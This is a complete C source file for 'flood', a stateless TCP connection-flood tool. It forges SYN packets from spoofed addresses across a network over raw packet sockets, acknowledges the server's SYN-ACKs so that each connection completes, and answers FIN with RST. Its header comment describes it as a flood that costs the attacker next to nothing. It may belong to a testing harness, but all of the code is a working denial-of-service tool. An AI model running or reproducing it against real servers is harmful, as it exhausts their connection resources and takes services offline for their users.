/* A flood of TCP connections that costs the attacker next to nothing: no sockets, no memory of what was sent.
 *
 * It sends SYNs from the addresses of a network, acknowledges whatever SYN comes back, answers the end of a connection
 * with a reset, and says nothing else. So the server's kernel completes each connection. It writes "flooding" after its
 * first second, ends when its standard input does, and then writes its counts as JSON.
 *
 *   flood INTERFACE GATEWAY-MAC NETWORK/LENGTH ADDRESSES SERVER PORT SYNS-PER-SECOND
 *
 * SYNs are sent in bursts of BURST. As many as possible are sent where the rate is 0. IPv4 addresses are in as many /24
 * as the network has, IPv6 addresses are random in it, as in flood.py. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURST		 32
#define MAX_PACKET_BYTES 128
#define RESPONSE_BATCH	 64
#define TTL		 64

static int family, prefix_bits, port;
static unsigned char network[16], server[16];
static uint32_t addresses;
static struct sockaddr_ll gateway;
static uint64_t random_state = 88172645463325252ull;
static long opened, connected, ended;

static uint64_t next_random(void) /* xorshift64 (Marsaglia 2003) */
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	return random_state ^= random_state << 17;
}

static uint32_t sum_words(const void *bytes, size_t length)
{
	uint32_t sum = 0;
	const unsigned char *at = bytes;

	for (size_t i = 0; i + 1 < length; i += 2)
		sum += (uint32_t)at[i] << 8 | at[i + 1];
	return sum;
}

static uint16_t checksum(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static size_t address_bytes(void)
{
	return family == AF_INET ? 4 : 16;
}

static void pick_source(unsigned char *source)
{
	uint32_t number = (uint32_t)(next_random() >> 16) % addresses;

	memcpy(source, network, address_bytes());
	if (family == AF_INET) {
		uint64_t size = 1ull << (32 - prefix_bits), offset = (uint64_t)number * 256;
		uint32_t first;
		memcpy(&first, network, 4);
		first = htonl(ntohl(first) + (uint32_t)((offset + 1 + offset / size) % size));
		memcpy(source, &first, 4);
		return;
	}
	uint64_t mixed = number;
	for (int byte = prefix_bits / 8; byte < 16; byte++) { /* splitmix64 (Steele et al. 2014) */
		uint64_t z = mixed += 0x9e3779b97f4a7c15ull;
		z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9ull;
		source[byte] = (unsigned char)(z >> 56);
	}
}

/* A segment without data from SOURCE, in PACKET: its length. */
static size_t segment(unsigned char *packet, const unsigned char *source, uint16_t source_port, uint32_t sequence,
		      uint32_t acknowledged, uint8_t flags)
{
	size_t header = family == AF_INET ? 20 : 40, address = address_bytes();
	struct tcphdr tcp = {.source = source_port, .dest = htons((uint16_t)port), .doff = 5, .window = 0xffff};

	memset(packet, 0, header);
	if (family == AF_INET) {
		packet[0] = 0x45;
		packet[3] = 40;
		packet[6] = 0x40; /* DF */
		packet[8] = TTL;
		packet[9] = IPPROTO_TCP;
		memcpy(packet + 12, source, 4);
		memcpy(packet + 16, server, 4);
		uint16_t sum = checksum(sum_words(packet, 20));
		memcpy(packet + 10, &sum, 2);
	} else {
		packet[0] = 0x60;
		packet[5] = sizeof(tcp);
		packet[6] = IPPROTO_TCP;
		packet[7] = TTL;
		memcpy(packet + 8, source, 16);
		memcpy(packet + 24, server, 16);
	}
	tcp.seq = sequence;
	tcp.ack_seq = acknowledged;
	((unsigned char *)&tcp)[13] = flags;
	tcp.check = checksum(sum_words(source, address) + sum_words(server, address) + IPPROTO_TCP + sizeof(tcp) +
			     sum_words(&tcp, sizeof(tcp)));
	memcpy(packet + header, &tcp, sizeof(tcp));
	return header + sizeof(tcp);
}

static void send_all(int out, unsigned char packets[][MAX_PACKET_BYTES], const size_t *lengths, unsigned int count)
{
	struct mmsghdr messages[RESPONSE_BATCH] = {0};
	struct iovec parts[RESPONSE_BATCH];

	for (unsigned int i = 0; i < count; i++) {
		parts[i] = (struct iovec){packets[i], lengths[i]};
		messages[i].msg_hdr = (struct msghdr){
			.msg_name = &gateway, .msg_namelen = sizeof(gateway), .msg_iov = &parts[i], .msg_iovlen = 1};
	}
	sendmmsg(out, messages, count, 0); /* what does not get out is lost on the way */
}

static void open_burst(int out)
{
	unsigned char packets[BURST][MAX_PACKET_BYTES], source[16];
	size_t lengths[BURST];

	for (int i = 0; i < BURST; i++) {
		pick_source(source);
		uint16_t source_port = htons((uint16_t)(1024 + next_random() % 64000));
		lengths[i] = segment(packets[i], source, source_port, (uint32_t)next_random(), 0, TH_SYN);
	}
	send_all(out, packets, lengths, BURST);
	opened += BURST;
}

/* The answer to what the server sent: its length, or 0. */
static size_t answer(unsigned char *reply, const unsigned char *packet, size_t length)
{
	size_t header = family == AF_INET ? 20 : 40;
	struct tcphdr tcp;

	if (length < header + sizeof(tcp) || packet[family == AF_INET ? 9 : 6] != IPPROTO_TCP)
		return 0;
	memcpy(&tcp, packet + header, sizeof(tcp));
	const unsigned char *us = packet + (family == AF_INET ? 16 : 24);
	uint8_t flags = ((unsigned char *)&tcp)[13];
	if (tcp.source != htons((uint16_t)port))
		return 0;
	if ((flags & (TH_SYN | TH_ACK | TH_RST)) == (TH_SYN | TH_ACK)) {
		connected++;
		return segment(reply, us, tcp.dest, tcp.ack_seq, htonl(ntohl(tcp.seq) + 1), TH_ACK);
	}
	if ((flags & TH_FIN) && !(flags & TH_RST)) {
		ended++;
		return segment(reply, us, tcp.dest, tcp.ack_seq, 0, TH_RST);
	}
	return 0;
}

static void answer_all(int in, int out)
{
	static unsigned char packets[RESPONSE_BATCH][MAX_PACKET_BYTES], replies[RESPONSE_BATCH][MAX_PACKET_BYTES];
	struct mmsghdr messages[RESPONSE_BATCH] = {0};
	struct iovec parts[RESPONSE_BATCH];
	size_t lengths[RESPONSE_BATCH];

	for (int i = 0; i < RESPONSE_BATCH; i++) {
		parts[i] = (struct iovec){packets[i], MAX_PACKET_BYTES};
		messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
	}
	int count = recvmmsg(in, messages, RESPONSE_BATCH, MSG_DONTWAIT, NULL);
	unsigned int replied = 0;
	for (int i = 0; i < count; i++) {
		lengths[replied] = answer(replies[replied], packets[i], messages[i].msg_len);
		replied += lengths[replied] > 0;
	}
	send_all(out, replies, lengths, replied);
}

static double now_s(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static void flood(int in, int out, double rate)
{
	double began = now_s(), last = began, owed = 0;
	int strong = 0;

	for (;;) {
		struct pollfd watched[] = {{.fd = 0, .events = POLLIN}, {.fd = in, .events = POLLIN}};
		poll(watched, 2, rate > 0 ? 1 : 0);
		if (watched[0].revents)
			return;
		if (watched[1].revents)
			answer_all(in, out);
		double now = now_s();
		owed = rate > 0 ? owed + (now - last) * rate : BURST;
		last = now;
		if (owed > rate * 0.2 + BURST)
			owed = rate * 0.2 + BURST;
		for (; owed >= BURST; owed -= BURST)
			open_burst(out);
		if (!strong && now - began >= 1) {
			strong = 1;
			puts("flooding");
			fflush(stdout);
		}
	}
}

static int packet_socket(int protocol, unsigned int interface)
{
	struct sockaddr_ll local = {
		.sll_family = AF_PACKET, .sll_protocol = htons((uint16_t)protocol), .sll_ifindex = (int)interface};
	int descriptor = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, 0), room = 16 << 20, yes = 1;

	if (descriptor < 0 || bind(descriptor, (struct sockaddr *)&local, sizeof(local)) < 0) {
		perror("opening a packet socket");
		exit(1);
	}
	setsockopt(descriptor, SOL_SOCKET, SO_RCVBUFFORCE, &room, sizeof(room));
	setsockopt(descriptor, SOL_PACKET, PACKET_IGNORE_OUTGOING, &yes, sizeof(yes));
	return descriptor;
}

int main(int argc, char **argv)
{
	if (argc != 8) {
		fputs("usage: flood INTERFACE MAC NETWORK/LENGTH ADDRESSES SERVER PORT RATE\n", stderr);
		return 2;
	}
	char *slash = strchr(argv[3], '/');
	struct ether_addr *mac = ether_aton(argv[2]);
	family = strchr(argv[3], ':') ? AF_INET6 : AF_INET;
	if (!slash || !mac) {
		fputs("flood: NETWORK/LENGTH and a MAC address are expected\n", stderr);
		return 2;
	}
	*slash = 0;
	prefix_bits = atoi(slash + 1);
	addresses = (uint32_t)strtoul(argv[4], NULL, 10);
	port = atoi(argv[6]);
	if (inet_pton(family, argv[3], network) != 1 || inet_pton(family, argv[5], server) != 1 || !addresses) {
		fputs("flood: the network, the server or the number of addresses is wrong\n", stderr);
		return 2;
	}
	int protocol = family == AF_INET ? ETH_P_IP : ETH_P_IPV6;
	unsigned int interface = if_nametoindex(argv[1]);
	gateway = (struct sockaddr_ll){.sll_family = AF_PACKET,
				       .sll_protocol = htons((uint16_t)protocol),
				       .sll_ifindex = (int)interface,
				       .sll_halen = ETH_ALEN};
	memcpy(gateway.sll_addr, mac, ETH_ALEN);
	int in = packet_socket(protocol, interface), out = packet_socket(0, interface);
	flood(in, out, atof(argv[7]));
	printf("{\"opened\": %ld, \"connected\": %ld, \"failed\": 0, \"cookies\": 0, \"ended\": %ld}\n", opened,
	       connected, ended);
	return 0;
}
